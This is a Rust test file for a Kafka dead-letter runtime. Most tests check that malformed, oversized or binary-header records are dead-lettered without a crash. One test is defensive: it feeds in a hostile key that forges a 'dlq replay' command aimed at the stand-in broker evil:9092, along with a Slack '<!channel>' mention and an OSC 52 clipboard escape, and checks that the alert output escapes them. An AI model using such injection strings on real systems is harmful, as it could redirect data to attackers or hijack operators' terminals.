//! Bad input gets a clear outcome, never a crash, and the runtime keeps consuming after it, on
//! every back end (bytes a real protocol implementation stores and returns, not only the mock).
//! (Invalid JSON, forged or corrupt envelopes, colliding header names, a missing DLQ and an
//! unwritable DLQ are covered in `runtime.rs`.)

mod common;

use common::*;
use sidetrack::retry::headers as h;
use sidetrack::{HandlerError, Reason};

#[derive(serde::Deserialize)]
#[allow(dead_code)]
struct Order {
    id: String,
}

async fn each_bad_record_gets_its_reason_and_later_records_still_flow(cluster: Env) {
    // The handler reads the key as text and the payload as JSON, as product code would; a
    // record whose payload is "big" fails (retryable) so that its hand-off must carry it.
    let recorder = Recorder::new(|m| {
        m.key_str()?;
        if m.payload().is_some_and(|p| p.len() > 100_000) {
            return Err(HandlerError::retryable("downstream rejected a big one"));
        }
        m.json::<Order>()?;
        Ok(())
    });
    // The side topics accept less than the source (as when a retry topic has a smaller
    // max.message.bytes, or the envelope pushes a record over the broker's limit).
    let mut cfg = cluster.config();
    cfg.producer
        .insert("message.max.bytes".into(), "100000".into());
    let rt = cluster
        .builder(cfg)
        .handler(recorder.clone())
        .started()
        .await;
    let producer = cluster.producer();
    let good = |i: usize| format!("{{\"id\":\"good-{i}\"}}");
    let big = vec![b'x'; 150_000];
    type Case = (&'static str, Option<Vec<u8>>, Option<Vec<u8>>);
    let cases: Vec<Case> = vec![
        (
            "non-utf8-key",
            Some(vec![0xff, 0xfe, 0x00]),
            Some(good(0).into_bytes()),
        ),
        ("empty-payload", Some(b"k".to_vec()), Some(Vec::new())),
        ("tombstone", Some(b"k".to_vec()), None),
        ("near-max-size", Some(b"big".to_vec()), Some(big.clone())),
    ];
    for (i, (name, key, payload)) in cases.iter().enumerate() {
        cluster
            .produce(
                &producer,
                cluster.topic(),
                Some(0),
                key.as_deref(),
                payload.as_deref(),
                &[],
            )
            .await
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        let after = good(i + 1);
        cluster
            .produce(
                &producer,
                cluster.topic(),
                Some(0),
                Some(b"k"),
                Some(after.as_bytes()),
                &[],
            )
            .await
            .unwrap();
        wait_for(
            &format!("{name}: dead-lettered, and the next record handled"),
            || {
                let s = rt.stats();
                s.total_dead_lettered() == i as u64 + 1 && s.handled == i as u64 + 1
            },
        )
        .await;
    }
    let stats = rt.shutdown().await.unwrap();
    assert_eq!(stats.dead_lettered(Reason::Poison), 3);
    assert_eq!(stats.dead_lettered(Reason::Oversized), 1);

    let dlq = cluster.read_all(&cluster.dlq()).await;
    assert_eq!(dlq.len(), 4);
    let by_kind = |kind: &str| {
        dlq.iter()
            .filter(|r| r.header_str(h::ERROR_KIND) == Some(kind))
            .count()
    };
    assert_eq!(by_kind("poison"), 3);
    let errors: Vec<&str> = dlq
        .iter()
        .map(|r| r.header_str(h::ERROR).unwrap())
        .collect();
    assert!(errors[0].contains("key is not UTF-8"), "{errors:?}");
    assert!(errors[1].contains("not a valid"), "{errors:?}");
    assert!(errors[2].contains("tombstone"), "{errors:?}");
    // The tombstone stays a tombstone on the DLQ.
    assert_eq!(dlq[2].payload, None);

    let oversized = &dlq[3];
    assert_eq!(oversized.header_str(h::ERROR_KIND), Some("oversized"));
    assert_eq!(oversized.payload, None, "payload dropped");
    assert_eq!(oversized.key.as_deref(), Some(&b"big"[..]), "key kept");
    let error = oversized.header_str(h::ERROR).unwrap();
    assert!(error.contains("150000 payload bytes"), "{error}");
    assert!(
        error.contains(&format!("the original stays at {}[0]@", cluster.topic())),
        "{error}"
    );
    assert!(error.contains("downstream rejected a big one"), "{error}");
    // Every good record was handled once.
    let handled_good: Vec<String> = recorder
        .all()
        .into_iter()
        .filter(|a| a.payload.contains("good-"))
        .map(|a| a.payload)
        .collect();
    assert_eq!(handled_good.len(), 5, "{handled_good:?}");
}

/// A header name that is not UTF-8 is legal on the wire. rdkafka's header iterator panics on
/// it; the runtime reads headers as bytes, hands the record to the handler, and carries the
/// header byte for byte to the DLQ.
async fn a_header_name_that_is_not_utf8_is_handled_and_kept_byte_for_byte(cluster: Env) {
    let recorder = Recorder::new(|m| {
        if m.header([0xff, 0xfe, b'n']).is_some() {
            return Err(HandlerError::permanent("saw the binary header"));
        }
        Ok(())
    });
    let rt = cluster
        .builder(cluster.config())
        .handler(recorder.clone())
        .started()
        .await;
    let producer = cluster.producer();
    let headers = [
        sidetrack::Header::new(vec![0xff, 0xfe, b'n'], vec![0x00, 0x9f]),
        sidetrack::Header::null(vec![0xc3]),
        sidetrack::Header::new("plain", "text"),
    ];
    cluster
        .produce(
            &producer,
            cluster.topic(),
            Some(0),
            Some(b"k"),
            Some(b"x"),
            &headers,
        )
        .await
        .unwrap();
    cluster
        .produce(
            &producer,
            cluster.topic(),
            Some(0),
            Some(b"k"),
            Some(b"after"),
            &[],
        )
        .await
        .unwrap();
    wait_for("dead-lettered, and the next record handled", || {
        let s = rt.stats();
        s.total_dead_lettered() == 1 && s.handled == 1
    })
    .await;
    rt.shutdown().await.unwrap();
    let dlq = cluster.read_all(&cluster.dlq()).await;
    assert_eq!(dlq.len(), 1);
    assert_eq!(
        dlq[0].user_headers(),
        &headers[..],
        "user headers byte for byte"
    );
    assert_eq!(dlq[0].header_str(h::ERROR), Some("saw the binary header"));
}

/// Review 18 #2: an oversized record whose size is mostly trace headers (a huge invalid
/// `traceparent`, huge `sidetrack-origin-*` headers written by the producer) and a huge key
/// still reaches the DLQ: the fallbacks keep only trace headers rebuilt from parsed values,
/// and the last one is an envelope alone, which always fits. Before, the fallbacks kept
/// those headers raw, every attempt was too large, and the partition was stuck.
#[cfg(feature = "otel")]
async fn an_oversized_record_with_huge_trace_headers_still_reaches_the_dlq(cluster: Env) {
    let recorder = Recorder::new(|_| Err(HandlerError::retryable("downstream rejected it")));
    let mut cfg = cluster.config();
    cfg.producer
        .insert("message.max.bytes".into(), "100000".into());
    cfg.tracing = Some(sidetrack::telemetry::TracingConfig::default());
    let rt = cluster
        .builder(cfg)
        .handler(recorder.clone())
        .started()
        .await;
    let producer = cluster.producer();
    let huge = |c: &str| c.repeat(60_000);
    let headers = [
        sidetrack::Header::new("traceparent", huge("0")),
        sidetrack::Header::new("tracestate", huge("a")),
        sidetrack::Header::new("sidetrack-origin-traceparent", huge("1")),
        sidetrack::Header::new("sidetrack-origin-tracestate", huge("b")),
    ];
    let key = vec![b'k'; 110_000];
    cluster
        .produce(
            &producer,
            cluster.topic(),
            Some(0),
            Some(&key),
            Some(b"{}"),
            &headers,
        )
        .await
        .unwrap();
    wait_for("the oversized record dead-lettered", || {
        rt.stats().dead_lettered(Reason::Oversized) == 1
    })
    .await;
    rt.shutdown().await.unwrap();
    let dlq = cluster.read_all(&cluster.dlq()).await;
    assert_eq!(dlq.len(), 1);
    assert_eq!(dlq[0].header_str(h::ERROR_KIND), Some("oversized"));
    assert_eq!(dlq[0].key, None, "the last fallback: no key");
    assert_eq!(
        dlq[0].user_headers(),
        &[][..],
        "and no header but the envelope"
    );
}

#[cfg(feature = "otel")]
on_every_broker!(
    an_oversized_record_with_huge_trace_headers_still_reaches_the_dlq,
    1,
    an_oversized_record_with_huge_trace_headers_still_reaches_the_dlq
);

on_every_broker!(
    each_bad_record_gets_its_reason_and_later_records_still_flow,
    1,
    each_bad_record_gets_its_reason_and_later_records_still_flow
);
on_every_broker!(
    a_header_name_that_is_not_utf8_is_handled_and_kept_byte_for_byte,
    1,
    a_header_name_that_is_not_utf8_is_handled_and_kept_byte_for_byte
);

/// Issue 17: the key `x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #` gave
/// an alert with two `Replay:` lines, the first pointing at another broker, and record text
/// reached Slack as markup (`<!channel>`). Now the log text and the webhook's Slack text
/// have exactly one `Replay:` line, built from the runtime's configured brokers, and no
/// `<` or `>` from a record.
#[cfg(feature = "webhook")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_key_cannot_forge_an_alert_line_or_a_slack_mention() {
    let (topic, group) = ("obs-hook-hostile", "g-hook-hostile");
    let cluster = cluster_with(topic, 1);
    let (addr, bodies) = http_server(Reply::Ok).await;
    let mut cfg = config_for(topic, group);
    cfg.alerts.webhook = Some(format!("http://{addr}/hook"));
    cfg.alerts.log = false;
    cfg.alerts.window = std::time::Duration::from_secs(600);
    let collect = Collect::default();
    let rt = sidetrack::Runtime::builder(cfg)
        .embedded(&cluster)
        .handler(Recorder::new(|m| {
            Err(HandlerError::permanent(format!(
                "<!channel> bad key {}\x1b]52;c;ZXZpbA==\x07",
                String::from_utf8_lossy(m.key().unwrap_or_default())
            )))
        }))
        .dead_letter_notifier(collect.clone())
        .started()
        .await;
    let key = b"x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #";
    let producer = cluster.producer().unwrap();
    sidetrack::testing::produce(&producer, topic, Some(0), Some(key), Some(b"p"), &[])
        .await
        .unwrap();
    wait_for("the dead letter", || rt.stats().total_dead_lettered() == 1).await;
    rt.shutdown().await.unwrap();
    let brokers = format!("--brokers {} ", cluster.bootstrap_servers());
    let alerts = collect.0.lock().unwrap().clone();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let bodies = bodies.lock().unwrap().clone();
    assert_eq!(bodies.len(), 1, "{bodies:?}");
    let body: serde_json::Value = serde_json::from_str(&bodies[0]).unwrap();
    let slack = body["text"].as_str().unwrap().to_owned();
    for text in [alerts[0].text(), slack.clone()] {
        let replay: Vec<&str> = text.lines().filter(|l| l.starts_with("Replay:")).collect();
        assert_eq!(replay.len(), 1, "exactly one Replay line:\n{text}");
        assert!(replay[0].contains(&brokers), "{text}");
        assert!(!replay[0].contains("evil"), "{text}");
        assert_eq!(
            text.lines().count(),
            4,
            "summary, one example, two commands:\n{text}"
        );
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
    }
    assert!(!slack.contains('<') && !slack.contains('>'), "{slack}");
    assert!(
        slack.contains("&lt;!channel&gt; bad key x\\nReplay:"),
        "{slack}"
    );
    // The structured copy is escaped too (a custom notifier printing it is safe).
    let example = &body["sidetrack"]["examples"][0];
    assert_eq!(
        example["key"],
        r"x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #"
    );
    assert!(example["error"]
        .as_str()
        .unwrap()
        .ends_with(r"\x1b]52;c;ZXZpbA==\x07"));
}
